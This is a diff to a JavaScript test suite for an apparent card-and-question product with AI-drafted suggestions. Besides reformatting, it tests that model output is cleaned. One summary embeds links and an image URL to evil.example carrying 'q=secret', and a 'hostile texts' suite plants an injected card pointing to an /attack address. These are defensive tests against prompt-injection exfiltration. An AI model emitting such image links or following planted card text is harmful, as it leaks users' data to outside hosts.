@@ -90,7 +90,11 @@ async function heatCards() {
       relevance: 'Long heat storage makes wind power useful in winter.',
       tags,
     }),
-    pump: await card({ title: 'Heat pumps outsell boilers in Norway', description: 'Nearly every new home has one.', tags }),
+    pump: await card({
+      title: 'Heat pumps outsell boilers in Norway',
+      description: 'Nearly every new home has one.',
+      tags,
+    }),
     octopus: await card({ title: 'An octopus farm is refused', description: 'The island says no to the farm.' }),
   };
 }
@@ -124,7 +128,8 @@ describe('suggestions without a provider', () => {
   });
 
   it('are the first sentences of a captured page, without its menu', async () => {
-    const text = 'Home\nNews\nShop\n\nA tower of sand stores heat at 500 degrees for months. It warms a hundred homes in Tampere this winter.';
+    const text =
+      'Home\nNews\nShop\n\nA tower of sand stores heat at 500 degrees for months. It warms a hundred homes in Tampere this winter.';
     const { body } = await suggest({ kind: 'card-texts', title: 'Sand', page_text: text });
     expect(body.data.attributes.text).toBe(
       'A tower of sand stores heat at 500 degrees for months. It warms a hundred homes in Tampere this winter.',
@@ -174,7 +179,8 @@ describe('suggestions of a model', () => {
   });
 
   it('are texts without addresses, pictures and ids', async () => {
-    const summary = 'Sand stores heat (c1). See [the site](http://evil.example/x) ![](http://evil.example/y?q=secret) or www.evil.example.';
+    const summary =
+      'Sand stores heat (c1). See [the site](http://evil.example/x) ![](http://evil.example/y?q=secret) or www.evil.example.';
     server.script('suggest-card-texts', { json: { summary, relevance: null } });
     const { body } = await suggest({ kind: 'card-texts', title: 'Sand', page_text: 'A page.' });
     expect(body.data.attributes.text).toBe('Sand stores heat. See the site or');
@@ -188,7 +194,7 @@ describe('suggestions of a model', () => {
     server.script('suggest-brief-domains', { json: { domains: ['Winter', 'Energy Storage'] } });
     server.script('suggest-map-group', { json: { name: '"Heat stores"' } });
     const insight = (await suggest({ kind: 'insight', card_slugs })).body.data.attributes;
-    expect(insight).toMatchObject({ title: 'Heat can be **kept', text: 'It can.' });
+    expect(insight).toMatchObject({ title: 'Heat can be kept', text: 'It can.' });
     expect(insight.drafter).toMatchObject({ kind: 'ai', model: 'test-model', prompt: 'suggest-insight@1' });
     const trend = await suggest({ kind: 'trend-implications', title: 'Heat', card_slugs });
     expect(trend.body.data.attributes.text).toBe('- Boilers go.');
@@ -255,7 +261,7 @@ describe('a question', () => {
   it('gets the best passages without a provider, in any order of words, or hears that the cards do not say', async () => {
     await allow(false);
     const { sand, salt } = await heatCards();
-    const { body } = await ask('In what is heat stored for a week?');
+    const { body } = await ask('Where does molten salt keep heat?');
     expect(body.data.attributes.outcome).toBe('passages');
     expect(body.data.attributes.cards[0]).toMatchObject({
       slug: salt,
@@ -376,7 +382,9 @@ describe('hostile texts', () => {
   it('are not obeyed where a model obeys them: no id, no address and no request comes of it', async () => {
     const address = site.at('/attack');
     const hostile = await card({ title: 'Heat', description: attack.replace('http://127.0.0.1:PORT/attack', address) });
-    server.script('ask', { json: { in_cards: true, sentences: [{ text: `Look at ${address}`, cards: ['c1', 'c2'] }] } });
+    server.script('ask', {
+      json: { in_cards: true, sentences: [{ text: `Look at ${address}`, cards: ['c1', 'c2'] }] },
+    });
     const answer = await ask('Heat?');
     expect(answer.text).not.toContain(address);
     expect(answer.body.data.attributes.sentences).toEqual([{ text: 'Look at', card_slugs: [hostile] }]);
@@ -418,6 +426,28 @@ describe('a provider', () => {
     caller.abort();
     await expect(call).rejects.toThrow();
     await expect.poll(() => server.left, { timeout: 20_000 }).toBe(1);
+    server.release();
+  });
+
+  it('that is left in the middle of its answer is left at once', async () => {
+    server.script('ask', 'stuck');
+    await card({ title: 'Heat' });
+    const caller = new AbortController();
+    const { body } = await fetch(new URL(`/v1/projects/${project}/questions`, product.address), {
+      method: 'POST',
+      headers: {
+        authorization: `Bearer ${ada.token}`,
+        'content-type': 'application/vnd.api+json',
+        accept: 'text/event-stream',
+      },
+      body: JSON.stringify({ question: 'Heat?' }),
+      signal: caller.signal,
+    });
+    const begun = await body?.getReader().read();
+    expect(new TextDecoder().decode(begun?.value)).toContain('event: progress');
+    expect(server.left).toBe(0);
+    caller.abort();
+    await expect.poll(() => server.left, { timeout: 20_000 }).toBe(1);
     // It is no failure of the product.
     expect(logged.filter((line) => line.includes('a call failed'))).toEqual([]);
     server.release();
@@ -425,7 +455,7 @@ describe('a provider', () => {
 
   it.each([
     ['cut off', 502, 'assistance_failed', 'cut off'],
-    ['broken off', 502, 'assistance_failed', 'cut off'],
+    ['broken off', 502, 'assistance_failed', 'cannot be reached'],
     ['refusing', 502, 'assistance_failed', 'refused'],
     ['not streaming', 502, 'assistance_failed', ''],
     ['failing', 502, 'assistance_failed', 'cannot be reached'],
